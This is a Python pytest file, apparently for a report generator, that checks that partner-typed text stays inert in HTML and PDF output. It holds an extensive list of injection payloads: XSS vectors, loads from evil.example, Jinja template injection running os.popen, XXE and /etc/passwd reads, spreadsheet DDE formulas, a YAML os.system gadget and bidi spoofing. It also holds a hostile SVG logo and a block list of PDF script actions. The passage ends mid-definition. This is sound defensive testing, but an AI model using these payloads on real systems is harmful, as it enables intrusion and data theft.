"""Whatever a partner types is text: in the page, in the file behind it, and in the PDF."""

from __future__ import annotations

import base64
import contextlib
import html.parser
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path
from unittest import mock
from urllib.parse import unquote

import pytest
import yaml

from calib import BadInput, assess, load_assessment, load_catalog
from calib.files import strict_yaml
from calib.render import document as b
from calib.render import escape
from calib.render import html as render_html
from calib.render.charts import labels as chart_words
from calib.report import open_report
from calib.report.typst_pdf import compile_pdf
from calib.report.write import write_report
from calib.resources import resource_path
from calib.store.locate import EXAMPLES
from calib.text import escape_invisible, is_invisible
from tests.conftest import TODAY, chromium

LONG = "Donaudampfschifffahrt" * 96
PAYLOADS = {
    "script": "<script>xss(1)</script>",
    "script-src": "<script src=https://evil.example/x.js></script>",
    "script-upper": "<SCRIPT/X>xss(1)</SCRIPT>",
    "script-split": "<scr<script>ipt>xss(1)</scr</script>ipt>",
    "script-close": "</script><script>xss(1)</script>",
    "script-close-space": "</script ><img src=x onerror=xss(1)>",
    "script-comment": "<!--<script>xss(1)",
    "style-close": "</style><script>xss(1)</script>",
    "title-close": "</title><script>xss(1)</script>",
    "textarea-close": "</textarea><script>xss(1)</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=xss(1)>">',
    "noembed": "<noembed><img title='</noembed><img src onerror=xss(1)>'></noembed>",
    "xmp": "<xmp></xmp><img src=x onerror=xss(1)>",
    "plaintext": "<plaintext>",
    "comment": "<!-- hidden",
    "comment-close": "--><script>xss(1)</script><!--",
    "comment-bang": "--!><img src=x onerror=xss(1)>",
    "cdata": "]]><script>xss(1)</script><![CDATA[",
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "xml-pi": '<?xml version="1.0"?><?php xss(1) ?>',
    "section-close": "</section></main></body></html><h1>READY</h1>",
    "img": "<img src=x onerror=xss(1)>",
    "img-remote": '<img src="https://evil.example/beacon.png">',
    "img-slash": "<img/src=x/onerror=xss(1)//",
    "img-newline": "<img\nsrc=x\nonerror=xss(1)>",
    "img-srcset": "<img srcset='//evil.example/a.png 1x'>",
    "svg": "<svg onload=xss(1)>",
    "svg-script": "<svg><script>xss(1)</script></svg>",
    "svg-animate": "<svg><animate onbegin=xss(1) attributeName=x dur=1s></svg>",
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='xss(1)'/>#x\"/></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.xss(1)</script>'></foreignObject></svg>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss(1)&gt;">',
    "math-href": '<math><maction actiontype="statusline" xlink:href="javascript:xss(1)">click',
    "template": "<template><script>xss(1)</script></template>",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=xss(1)></template></div>",
    "details": "<details open ontoggle=xss(1)><summary>x</summary></details>",
    "body": "<body onload=xss(1)><frameset onload=xss(1)>",
    "iframe": '<iframe src="javascript:parent.xss(1)"></iframe>',
    "iframe-file": '<iframe src="file:///etc/passwd"></iframe>',
    "object": '<object data="data:text/html,<script>parent.xss(1)</script>"></object>',
    "embed": "<embed src=//evil.example/x.swf>",
    "video": "<video><source onerror=xss(1)></video><audio src=x onerror=xss(1)>",
    "form": "<form action=https://evil.example/><button>Continue</button></form>",
    "formaction": "<button formaction=javascript:xss(1)>click</button>",
    "input": "<input autofocus onfocus=xss(1)>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css><link rel=dns-prefetch href=//evil.example>",
    "style": "<style>@import 'https://evil.example/x.css';*{background:url(//evil.example/)}</style>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "meta-js": '<meta http-equiv="refresh" content="0;url=javascript:xss(1)">',
    "base": "<base href=https://evil.example/>",
    "portal": "<a href=x ping=https://evil.example/>x</a><a id=Plotly name=Plotly>",
    "clobber": "<form id=document><input name=getElementById></form>",
    "js-link": "javascript:xss(1)",
    "js-link-odd": "JaVa\tScript:xss(1)//",
    "js-link-html": '<a href="javascript:xss(1)">click</a>',
    "vbscript": "vbscript:xss(1)",
    "data-link": "data:text/html,<script>xss(1)</script>",
    "double": '" onmouseover="xss(1)" autofocus onfocus="xss(1)" x="',
    "double-close": '"><script>xss(1)</script>',
    "single": "' onfocus='xss(1)' autofocus tabindex=1 x='",
    "single-close": "'><img src=x onerror=xss(1)>",
    "bare": " onfocus=xss(1) autofocus x=",
    "backtick": "`onfocus=xss(1) autofocus `><svg/onload=xss`1`>",
    "backslash": '\\"><script>xss(1)</script>\\u003cscript\\u003e',
    "json": '"}],"layout":{"title":"</script><script>xss(1)</script>"}}',
    "entities": "&lt;script&gt;xss(1)&lt;/script&gt; &amp;amp; &quot; &#39; &nbsp;",
    "entities-bare": "&ltscript&gtxss(1) &#x3c;img src=x onerror=xss(1)&#62; &copy &NotEqualTilde;",
    "jinja": "{{7*7}}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "jinja-block": "{% raw %}{% include '/etc/passwd' %}{# x #}{% endraw %}",
    "dollar": "${7*7} #{7*7} %{7*7} {0} {service} {__class__} %s %(x)s",
    "typst-import": '#import "@preview/evil:1.0.0": *',
    "typst-read": '#read("/etc/passwd") #read("charts.js") #include "report.typ"',
    "typst-marks": "$x^2$ *bold* _emph_ `raw` @label <label> = Heading \\ #[x] ~ -- --- ...",
    "typst-eval": '") #eval("panic()") #sys.inputs #panic("x") // gone /* gone */',
    "typst-raw": '```typ #read("report.css") ```',
    "markdown": "![x](https://evil.example/b.png) [x](javascript:xss(1)) # Heading **b**",
    "markdown-auto": "<https://evil.example/> <javascript:xss(1)> https://evil.example/auto",
    "latex": "$\\href{javascript:xss(1)}{x}$ \\input{/etc/passwd} \\write18{id}",
    "plotly": '<a href="javascript:xss(1)">x</a><b>b</b><br><span style="color:#ff0000">r</span>%{x}<extra></extra>',
    "plotly-img": "<sub>x</sub><sup onload=xss(1)>y</sup> %{customdata[0]} &#8226;",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula-dde": "=cmd|' /C calc'!A0 @SUM(1) +1 -1",
    "css": "x:expression(xss(1));background:url(javascript:xss(1));-moz-binding:url(//evil.example)",
    "css-close": "}*{background:url(https://evil.example/)} /* */ @import",
    "bidi-override": "abc \u202egnp.exe\u202c done",
    "bidi-isolate": "\u2066hidden\u2069 \u202aa\u202b b\u202dc\u202c",
    "marks": "left\u200emark right\u200fmark \u061cmark",
    "zero-width": "zero\u200bwidth\u200cnon\u200djoin\u2060er\ufeffbom soft\u00adhyphen",
    "control": "bell\x07 escape\x1b[31m null\x00 back\x08 unit\x1f delete\x7f c1\x9b",
    "lines": "one\u2028two\u2029three\x85four \\u2028",
    "nonchars": "\ufffe\uffff \ufffd \ufff9anchor\ufffb \U000e0041\U000e007f private\ue000",
    "combining": "Z\u0351\u0354\u036b\u0343a\u0323\u0307l\u0334\u0317g\u0315o \u0301",
    "stroke": "\u0338a >\u0338 <\u0338b =\u0338",
    "emoji": "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f 1\ufe0f\u20e3",
    "cjk": "生成人工智能 能力 日本語テキスト 한국어",
    "arabic": "مرحبا بالعالم 123 <script>xss(1)</script> نص",
    "hebrew": "שלום עולם (1) <b>",
    "mixed": "Ελληνικά Кириллица हिन्दी ไทย ﬁ ﬆ Å Å ⅷ ①",
    "confusable": "Аmаzоn Веdrосk ＜script＞xss(1)＜／script＞ ‹img›",
    "quotes": "“a” ‘b’ \"c\" 'd' `e` «f» --g-- ...h it's",
    "long": LONG,
    "long-cjk": "漢" * 700,
    "spaces": "a\u00a0b\u2003c\u3000d\te",
    "path": "../../../../etc/passwd file:///etc/passwd \\\\evil.example\\share C:\\x",
    "keys": "A" "KIA no key, 0 null NO ~ 1e999 NaN 0x1F",
    "yaml": "- {a: b} !!python/object/apply:os.system ['id'] &a *a <<: |",
}  # fmt: skip
BENIGN = "a plain remark of some length"
ODD_NAMES = {
    "quotes": "x\"'onfocus=xss(1)", "tag": "<img%20src=x%20onerror=xss(1)>", "entity": "&lt;svg&gt;",
    "typst": "#read($x$)@l_*b*", "jinja": "{{7*7}}", "script": "javascript:xss(1)", "bidi": "a\u202eb",
    "wide": "文書\U0001f600",
}  # fmt: skip
ODD_URLS = {
    "quote": "https://ok.example/a'b\"c`d", "tag": "https://ok.example/<script>xss(1)</script>",
    "typst": 'https://ok.example/#read("x")$*_@<l>', "wide": "https://ok.example/ü文\U0001f600?q=\u202ex",
    "user": "https://user:word@ok.example/?a=b&amp;c=d&lt;e", "escape": "https://ok.example/%3Cscript%3E%00%0d%0a",
    "odd": "https://?", "brackets": "https://[ok.example/\\..\\{}|^",
}  # fmt: skip
PLACES_NOT_SHOWN = (
    "profile.contact", "profile.website", "profile.region", "profile.tier", "profile.path",
    "profile.about", "catalog_version", "evidence.customer", "study.tech_stack",
    "study.solution_types", "study.primary", "plan.gone", "milestone.readiness", "milestone.catalog_version",
)  # fmt: skip
"""What the report does not print; everything else has to stand in it word for word."""


class Planter:
    """Write a copy of the halfway example in which every free text is hostile, or benign alike."""

    def __init__(self, folder: Path, turn: int | None) -> None:
        self.folder, self.turn = folder, turn
        self.texts: dict[str, str] = {}
        self.urls: list[str] = []

    def text(self, place: str) -> str:
        """Choose the next text for a place; its end tells where it stands."""
        count = len(self.texts)
        names = list(PAYLOADS)
        body = BENIGN if self.turn is None else PAYLOADS[names[(count + self.turn) % len(names)]]
        self.texts[f"{place}#{count}"] = text = f"{body} f{count:03}"
        return text

    def odd(self, table: dict[str, str], index: int, benign: str) -> str:
        return benign if self.turn is None else list(table.values())[index % len(table)]

    def document(self, name: str) -> dict:
        document = strict_yaml.read_yaml(self.folder / name)
        assert not document.problems
        return document.value

    def write(self, name: str, value: dict) -> None:
        text = yaml.dump(value, Dumper=yaml.CSafeDumper, sort_keys=False, allow_unicode=False)
        (self.folder / name).write_text(text, encoding="utf-8")

    def plant(self) -> Planter:
        shutil.copytree(resource_path("data", "examples", EXAMPLES["halfway"]), self.folder)
        self._header()
        self._evidence()
        for number, path in enumerate(sorted((self.folder / "case_studies").glob("*.yaml"))):
            self._study(path, number)
        for path in sorted((self.folder / "controls").glob("*.yaml")):
            self._control(f"controls/{path.name}")
        self._plan()
        self._milestones()
        return self

    def _header(self) -> None:
        value = self.document("assessment.yaml")
        for key in value["profile"]:
            value["profile"][key] = self.text(f"profile.{key}")
        value["scope"] = self.text("scope")
        value["catalog_version"] = self.text("catalog_version")
        self.write("assessment.yaml", value)

    def _evidence(self) -> None:
        value = self.document("evidence.yaml")
        for item in value["evidence"]:
            item["title"] = self.text("evidence.title")
            item["customer"] = self.text("evidence.customer")
        for number in range(len(ODD_NAMES)):
            name = f"evidence/{self.odd(ODD_NAMES, number, f'plain-{number}')}.txt"
            if number % 2:
                (self.folder / name).write_text("evidence\n", encoding="utf-8")
            self.texts[f"evidence.file#{len(self.texts)}"] = name
            title = self.text("evidence.title")
            value["evidence"].append({"id": f"odd-file-{number}", "title": title, "file": name})
        for number in range(len(ODD_URLS)):
            url = self.odd(ODD_URLS, number, f"https://ok.example/{number}")
            self.urls.append(url)
            self.texts[f"evidence.url#{len(self.texts)}"] = url
            title = self.text("evidence.title")
            value["evidence"].append({"id": f"odd-url-{number}", "title": title, "url": url})
        self.write("evidence.yaml", value)

    def _study(self, path: Path, number: int) -> None:
        name = f"case_studies/{path.name}"
        value = self.document(name)
        for key in ("title", "customer", "challenge", "solution", "results", "migrated_from"):
            value[key] = self.text(f"study.{key}")
        value["tech_stack"] = [self.text("study.tech_stack")]
        value["services"] = [*value["services"], self.text("study.services")]
        value["could_lead"] = [self.text("study.could_lead")]
        value["solution_types"] = [*value["solution_types"], self.text("study.solution_types")]
        if number == 0:
            value["primary_service"] = self.text("study.primary")
        path.unlink()
        stem = self.odd(ODD_NAMES, number, f"plain-{number}")
        self.write(f"case_studies/{stem}.yaml", value)

    def _control(self, name: str) -> None:
        value = self.document(name)
        paragraphs = value["narrative"].split("\n\n")
        for number, paragraph in enumerate(paragraphs):
            first, _, rest = paragraph.partition(" ")
            paragraphs[number] = f"{first} {self.text('narrative')} {rest}"
        value["narrative"] = "\n\n".join([*paragraphs, self.text("narrative")])
        for number, answer in enumerate(value["criteria"].values()):
            answer["answer"] = self.text("answer")
            answer["owner"] = self.text("owner")
            if number == 1:
                answer["not_applicable"] = self.text("not_applicable")
            if number == 2:
                answer["override"] = {
                    "level": 1,
                    "by": self.text("by"),
                    "reason": self.text("reason"),
                }
        value["third_party"] = [
            {"service": self.text("service"), "purpose": self.text("purpose"),
             "justification": self.text("justification") if justified else ""}
            for justified in (True, False)
        ]  # fmt: skip
        self.write(name, value)

    def _plan(self) -> None:
        value = self.document("plan.yaml")
        catalog = load_catalog()
        result = assess(catalog, load_assessment(self.folder, catalog), TODAY)
        needed = {gap.id for gap in result.gaps}
        for action in value["actions"]:
            # What the planted texts happen to settle is an action no more.
            open_ = action["status"] != "done" and action["id"] in needed
            place = "plan" if open_ else "plan.gone"
            action["owner"] = self.text(f"{place}.owner")
            action["note"] = self.text(f"{place}.note")
        assert sum(action["id"] in needed for action in value["actions"]) >= 3
        value["actions"].append({"id": self.text("plan.id"), "owner": "Hal", "note": "gone"})
        self.write("plan.yaml", value)

    def _milestones(self) -> None:
        shutil.rmtree(self.folder / "milestones", ignore_errors=True)
        (self.folder / "milestones").mkdir()
        gauges = [[f"GENAIPR-00{n}", 1.5] for n in range(1, 7)]
        for number in range(6):
            value = {
                "date": f"2026-0{number + 2}-03", "name": self.text("milestone.name"),
                "readiness": self.text("milestone.readiness"),
                "catalog_version": self.text("milestone.catalog_version"), "gauges": gauges,
            }  # fmt: skip
            (self.folder / "milestones" / f"{number}.json").write_text(json.dumps(value))


HOSTILE_LOGO = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 30" onload="xss(1)">
<script>xss(1)</script><script href="https://evil.example/x.js"/>
<style>@import url(https://evil.example/x.css);</style>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
<use href="https://evil.example/x.svg#a"/><rect width="90" height="30" fill="#345"/>
<a href="javascript:xss(1)"><text x="4" y="20">Logo</text></a></svg>
"""


class Made:
    """Hold the files of a report and what was planted in it."""

    def __init__(
        self, folder: Path, turn: int | None, formats: tuple[str, ...], **more: str
    ) -> None:
        self.planted = Planter(folder / "assessment", turn).plant()
        logo = folder / "logo.svg"
        logo.write_text(HOSTILE_LOGO, encoding="utf-8")
        self.brand = self.planted.text("brand_name")
        self.confidentiality = self.planted.text("confidentiality")
        parameters = {
            "assessment": str(self.planted.folder), "report_date": TODAY.isoformat(),
            "brand_name": self.brand, "confidentiality": self.confidentiality,
            "brand_logo": str(logo), **more,
        }  # fmt: skip
        # Such a logo is refused at the door (see below); here it is let in, to see what it could do.
        with mock.patch("calib.report.brand._is_valid_image", return_value=True):
            made = write_report(parameters, folder / "out", formats)
        self.files, self.replaced, self.result = made

    @property
    def html(self) -> str:
        return self.files["html"].read_text(encoding="utf-8")

    def expected(self) -> dict[str, str]:
        """What has to stand in the page: each text, by its place."""
        return {
            place: plain(escape_invisible(text))
            for place, text in self.planted.texts.items()
            if not place.startswith(PLACES_NOT_SHOWN)
        }


def leading(made: Made) -> list[str]:
    """The addresses of the register that are whole, and name no user before the host."""
    found = ["https://trust.brightloomcloud.example/privacy", *made.planted.urls]
    return [u for u in found if u not in ("https://?", ODD_URLS["user"], ODD_URLS["brackets"])]


def plain(text: str) -> str:
    """One line; the report joins wrapped lines at whatever Python takes for a space."""
    text = re.sub(r"\[U\+(?:001[C-F]|0085|000[BCD])\]", " ", text)
    return " ".join(text.split())


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Made:
    return Made(tmp_path_factory.mktemp("hostile"), 0, ("html", "pdf", "json"))


@pytest.fixture(scope="module")
def twin(tmp_path_factory) -> Made:
    return Made(tmp_path_factory.mktemp("twin"), None, ("html",))


# --- the renderers, without a browser --------------------------------------------------------------


def section(text: str, chart: dict | None = None) -> b.Section:
    """A section with a text in every place that a block has."""
    one = (
        b.Run(text, "strong"),
        b.Run(text, "", text),
        b.Run(text, "", f"https://{text}"),
        b.badge(text, "bad"),
    )
    card = b.Card(text, text, text, text, b.badge(text, "good"), text, "#method")
    row = b.TableRow(
        (one, one), (b.BulletList((one,)), b.DefinitionList(((text, one),))), "row-1", text
    )
    pieces = (b.NarrativeSegment(text), b.NarrativeSegment(text, "good", 1, text))
    blocks: list[object] = [
        b.Paragraph(one, "lead"), b.Heading(text, 3, "heading-1"), b.BulletList((one, one)),
        b.DefinitionList(((text, one),)), b.CardGrid((card, card)),
        b.TableBlock(text, (b.Column(text), b.Column(text, 2, "center")), (row,)),
        b.Narrative("narrative", (pieces, pieces), (False, True)),
        b.Callout("warn", text, (b.Paragraph(one),)),
    ]  # fmt: skip
    if chart is not None:
        blocks.append(
            b.ChartBlock("chart", text, text, chart, 200, 100, (text, text), ((text, text),))
        )
    return b.Section("cover", text, tuple(blocks), text)


def figure(text: str) -> dict:
    """A chart that carries a text as our charts do: escaped for plotly, which reads some markup."""
    note = {
        "x": 0.5, "y": 0.5, "xref": "paper", "yref": "paper", "text": chart_words.escape_markup(text),
        "showarrow": False, "xanchor": "left", "yanchor": "top", "align": "left",
    }  # fmt: skip
    margin = {"l": 0, "r": 0, "t": 0, "b": 0}
    # No chart does so, but the data of one could hold a text as it was typed.
    font = {"family": text}
    layout = {"annotations": [note], "margin": margin, "width": 200, "height": 100, "font": font}
    return {"data": [], "layout": layout}


class Parsed(html.parser.HTMLParser):
    """Read a page: its tags with their attributes' names, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.links: set[str] = set()
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.links |= {str(v) for k, v in attrs if k == "href"}
        if tag == "br":
            self.words.append(" ")
        elif tag != "a":
            self.tags[" ".join([tag, *sorted(k for k, _ in attrs)])] += 1

    def handle_data(self, data):
        if self.cdata_elem is None:  # a chart's data holds the text once more
            self.words.append(data)

    def handle_comment(self, data):
        self.tags["comment"] += 1

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_text_in_any_block_stays_text(name):
    text = PAYLOADS[name]
    made = render_html.render_section(section(text, figure(text)))
    page = Parsed(made)
    twin = Parsed(render_html.render_section(section("benign", figure("benign"))))
    assert not any(map(is_invisible, made)), "nothing turns the words after it round"
    assert page.tags == twin.tags
    assert all(link.startswith(("#", "https://")) for link in page.links)
    alone, benign = (
        Parsed(render_html.render_section(section(one))).words for one in (text, "benign")
    )
    shown = plain("".join(alone)).count(plain(escape_invisible(text)))
    assert shown == "".join(benign).count("benign") > 30


def test_a_style_sheet_knows_no_text_of_a_partner():
    parsed = Parsed(render_html.render_section(section(PAYLOADS["css-close"])))
    assert not any("style" in tag.split() for tag in parsed.tags if not tag.startswith("col "))


@pytest.mark.parametrize(
    ("typed", "leads_to"),
    [
        ("#GENAIPR-001", "#GENAIPR-001"), ("https://a.example/b?c=d#e", "https://a.example/b?c=d#e"),
        ("https://a.example/%20", "https://a.example/%20"), ("https://a.example:8443", "https://a.example:8443"),
        ("https://a.example/it's", "https://a.example/it%27s"), ('https://a.example/"', "https://a.example/%22"),
        ("https://a.example/ü\u202e", "https://a.example/%C3%BC%E2%80%AE"),
        ("https://user@a.example/", ""), ("https://aws.amazon.com:x@a.example/", ""), ("https://", ""),
        ("https://a.example\\@b.example/", ""), ("https://?", ""), ("http://a.example", ""), ("//a.example", ""),
        ("javascript:xss(1)", ""), (" https://a.example", ""), ("https://a.example/a b", ""), ("HTTPS:a", ""),
        ("data:text/html,x", ""), ("file:///etc/passwd", ""), ("", ""),
    ],
)  # fmt: skip
def test_where_a_link_leads(typed, leads_to):
    assert escape.safe_href(typed) == leads_to


# --- the PDF --------------------------------------------------------------------------------------

META = {
    "catalog_version": "2026.1", "program": "0", "date": "2026-11-22", "day": "22 Nov 2026",
    "content_hash": "0" * 64,
}  # fmt: skip
SECRETS = (
    "root:x:0:0", "Each picture is there already", "The readiness report as PDF.",
    "overflow-wrap:anywhere", '"base_template"',
)  # fmt: skip
"""What stands in /etc/passwd, and in the files beside the Typst template."""


def words_of(pdf: bytes, folder: Path) -> str:
    """The text of a PDF in the order in which it was set, without spaces and what becomes one."""
    return "".join(pages_of(pdf, folder))


def pages_of(pdf: bytes, folder: Path) -> list[str]:
    """The same, page by page."""
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext is not installed")
    (folder / "read.pdf").write_bytes(pdf)
    command = ["pdftotext", "-raw", "-enc", "UTF-8", str(folder / "read.pdf"), "-"]
    said = subprocess.run(command, check=True, capture_output=True).stdout.decode()
    return [dense(page) for page in said.split("\f")]


def dense(text: str) -> str:
    return re.sub(r"\[U\+(?:001[C-F]|0085|000[BCD])\]|[\s\u200b\u2060\u00ad]", "", text)


def in_pdf(text: str, replaced: list[str]) -> str:
    """A text as the PDF shows it: what no font has as its code point."""
    table = {int(f"0x{code[2:]}", 0): f"[{code}]" for code in replaced}
    return dense(plain(text.translate(table)))


def stands(text: str, pages: list[str]) -> bool:
    """True where a page has the text, or one page ends with its beginning and the next goes on."""
    if any(text in page for page in pages):
        return True
    bodies = [page.rpartition("Catalog2026.1")[0] for page in pages]
    return any(
        body.endswith(text[:cut]) and text[cut:] in after
        for body, after in zip(bodies, pages[1:], strict=False)
        for cut in range(1, len(text))
    )


def objects(pdf: bytes):
    """Every dictionary of a PDF, and every stream's plain content."""
    pypdf = pytest.importorskip("pypdf", reason="pypdf is not installed")
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    waiting, seen = [reader.trailer, *reader.pages], set()
    for number in range(1, int(reader.trailer["/Size"])):
        with contextlib.suppress(pypdf.errors.PdfReadError):
            waiting.append(reader.get_object(number))
    while waiting:
        one = waiting.pop()
        if id(one) in seen or one is None:
            continue
        seen.add(id(one))
        if isinstance(one, dict):
            yield one
            waiting += [v for v in one.values() if isinstance(v, dict | list)]
        elif isinstance(one, list):
            waiting += [v for v in one if isinstance(v, dict | list)]


def check_harmless(pdf: bytes) -> set[str]:
    """No script, no action but links to https and within; returns where the links lead."""
    leads = set()
    count = 0
    for one in objects(pdf):
        count += 1
        bad = {
            "/JavaScript",
            "/JS",
            "/AA",
            "/Launch",
            "/XFA",
            "/AcroForm",
            "/RichMedia",
            "/F2",
        } & set(one)
        assert not bad, one
        if "/URI" in one and one.get("/S") == "/URI":
            leads.add(str(one["/URI"]))
        assert one.get("/S") not in (
            "/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/Movie",
            "/Sound", "/Rendition", "/Named",
        ), one  # fmt: skip
    assert count > 100
    assert all(link.startswith("https://") and link.isascii() for link in leads)
    return leads


def attached(pdf: bytes) -> dict[str, bytes]:
    pypdf = pytest.importorskip("pypdf", reason="pypdf is not installed")
    found = pypdf.PdfReader(io.BytesIO(pdf)).attachments
    return {name: b"".join(content) for name, content in found.items()}


def check_archival(pdf: bytes) -> None:
    """Tagged, in English, with bookmarks, and what it says of itself."""
    pypdf = pytest.importorskip("pypdf", reason="pypdf is not installed")
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    root = reader.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en"
    assert "/StructTreeRoot" in root
    assert "/OpenAction" not in root
    assert len(reader.outline) >= 1
    tree = ET.fromstring(root["/Metadata"].get_data())
    said = {e.tag: e.text for e in tree.iter()} | {
        k: v for e in tree.iter() for k, v in e.attrib.items()
    }
    assert said["{http://www.aiim.org/pdfua/ns/id/}part"] == "1"
    assert said["{http://www.aiim.org/pdfa/ns/id/}part"] == "3"
    assert said["{http://www.aiim.org/pdfa/ns/id/}conformance"] == "A"


@pytest.fixture(scope="module")
def every_text_set() -> tuple[bytes, list[str], str]:
    """A PDF with every text in every kind of block, made without a notebook."""
    brand = {
        "name": PAYLOADS["typst-eval"],
        "logo": "",
        "accent": "#345678",
        "confidentiality": PAYLOADS["control"],
    }
    found = []
    said = [text[:80] for text in PAYLOADS.values()]
    for number in range(0, len(said), 4):
        text = " ".join(said[number : number + 4])
        data = section(text, figure(text)).data()
        data["id"] = "cover" if not number else f"part-{number}"
        for one in data["blocks"]:
            if one["kind"] in ("heading", "narrative", "figure"):
                one["id"] = f"{one['kind']}-{number}"
            if one["kind"] == "table":
                one["rows"][0]["id"] = f"row-{number}"
        found.append(data)
    result = json.dumps({"text": list(PAYLOADS.values())}, ensure_ascii=False)
    pdf, replaced = compile_pdf(found, {**META, "brand": brand}, result)
    return pdf, replaced, result


@pytest.mark.slow
def test_every_text_in_every_block_of_a_pdf(every_text_set, tmp_path):
    pdf, replaced, result = every_text_set
    text = words_of(pdf, tmp_path)
    missing = {
        name: said for name, said in PAYLOADS.items()
        if in_pdf(said[:80], replaced) not in text and name not in RIGHT_TO_LEFT
    }  # fmt: skip
    assert missing == {}
    check_harmless(pdf)
    check_archival(pdf)
    assert attached(pdf) == {"result.json": result.encode()}
    assert [s for s in SECRETS if dense(s) in text] == []


RIGHT_TO_LEFT = ("arabic", "marks", "combining", "mixed", "nonchars", "zero-width")
"""Shaped or reordered on paper, so that a tool which reads it back may see it otherwise."""


def test_what_no_font_has_is_shown_as_its_code_point(tmp_path):
    said = "能 \U0001f600 \u202e \x07 \x9b é ж س end"
    # Letters that join or stack are text on the page, and in a picture nothing that stops the PDF.
    parts = [section(said, figure("شركة हिन्दी Z\u0351 \u0338 e\u0301 a\u200db 能")).data()]
    pdf, replaced = compile_pdf(
        parts,
        {**META, "brand": {"name": "", "logo": "", "accent": "#345678", "confidentiality": ""}},
        "{}",
    )
    assert replaced == ["U+0007", "U+009B", "U+202E", "U+80FD", "U+1F600"]
    assert "[U+80FD][U+1F600][U+202E][U+0007][U+009B]éж" in words_of(pdf, tmp_path)
    assert attached(pdf) == {"result.json": b"{}"}


@pytest.mark.parametrize("word", ["w" * 30, "שלום"])
def test_a_paragraph_takes_any_number_of_words_that_no_line_holds(word, tmp_path):
    one = (b.Run(" and ".join([*[word] * 600, "so it ends"])),)
    blocks = (
        b.Paragraph(one), b.BulletList((one,)), b.DefinitionList((("Note", one),)),
        b.TableBlock("Table", (b.Column("Note"),), (b.TableRow((one,)),)),
        b.Narrative("narrative", ((b.NarrativeSegment(one[0].text), b.NarrativeSegment(one[0].text, "good", 1, "x")),), (False,)),
    )  # fmt: skip
    brand = {"name": "", "logo": "", "accent": "#345678", "confidentiality": ""}
    parts = [b.Section("cover", "Title", blocks, "").data()]
    pdf, replaced = compile_pdf(parts, {**META, "brand": brand}, "{}")
    text = words_of(pdf, tmp_path)
    assert text.count("soitends") == 6
    pages = len(pages_of(pdf, tmp_path))  # a word may go on on the next page
    assert 6 * 600 - pages <= text.count(in_pdf(word, replaced)) <= 6 * 600


@pytest.mark.slow
def test_the_pdf_of_a_hostile_assessment(hostile, tmp_path):
    pdf = hostile.files["pdf"].read_bytes()
    pages = pages_of(pdf, tmp_path)
    text = "".join(pages)
    places = (
        "narrative", "scope", "profile.partner", "plan.id", "study.challenge", "study.solution",
        "study.results", "service", "purpose", "justification", "brand_name", "answer",
    )  # fmt: skip
    sample = {p: t for p, t in hostile.planted.texts.items() if p.partition("#")[0] in places}
    shaped = tuple(PAYLOADS[name] for name in RIGHT_TO_LEFT)
    missing = {
        p: t
        for p, t in sample.items()
        if not t.startswith(shaped) and not stands(in_pdf(t, hostile.replaced)[:150], pages)
    }
    assert missing == {}
    assert len(sample) > 100
    assert not stands(
        in_pdf(max(sample.values(), key=len)[:140] + "no such", hostile.replaced), pages
    )
    assert [s for s in SECRETS if dense(s) in text] == []
    assert not any(
        s.encode() in content for s in SECRETS for content in [pdf, *attached(pdf).values()]
    )
    assert {unquote(u) for u in check_harmless(pdf)} == {unquote(u) for u in leading(hostile)}
    check_archival(pdf)
    written = hostile.files["json"].read_bytes()
    assert attached(pdf) == {"result.json": written.removesuffix(b"\n")}
    assert "[U+202E]" in text
    assert PAYLOADS["long"][:1000] in text, (
        "a long word goes on on the next line, not outside the paper"
    )


def test_a_hostile_logo_is_refused_at_the_door(tmp_path):
    logo = tmp_path / "logo.svg"
    logo.write_text(HOSTILE_LOGO, encoding="utf-8")
    with pytest.raises(BadInput, match="must not contain scripts"):
        open_report("example:strong", brand_logo=str(logo))


def test_a_logo_that_links_to_another_file_is_refused(tmp_path):
    logo = tmp_path / "logo.svg"
    for target in (
        "https://evil.example/x.png",
        "file:///etc/passwd",
        "report.css",
        "../../data/catalog/notice.md",
    ):
        logo.write_text(
            f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><image href="{target}" width="9" height="9"/></svg>'
        )
        content = base64.b64encode(logo.read_bytes()).decode()
        brand = {
            "name": "",
            "logo": f"data:image/svg+xml;base64,{content}",
            "accent": "#345678",
            "confidentiality": "",
        }
        with pytest.raises(RuntimeError, match="linked image"):
            compile_pdf([section("x").data()], {**META, "brand": brand}, "{}")


# --- a real browser -------------------------------------------------------------------------------

needs_chromium = pytest.mark.skipif(chromium() is None, reason="no Chromium is installed")
TRAPS = """
window.__ran = [];
for (const name of ["alert", "confirm", "prompt", "open", "print"])
  window[name] = (...said) => { window.__ran.push(name + " " + said); xss(name); };
addEventListener("securitypolicyviolation", e => window.__ran.push("policy " + e.violatedDirective + " " + e.blockedURI));
"""
CLICK_ALL = """async () => {
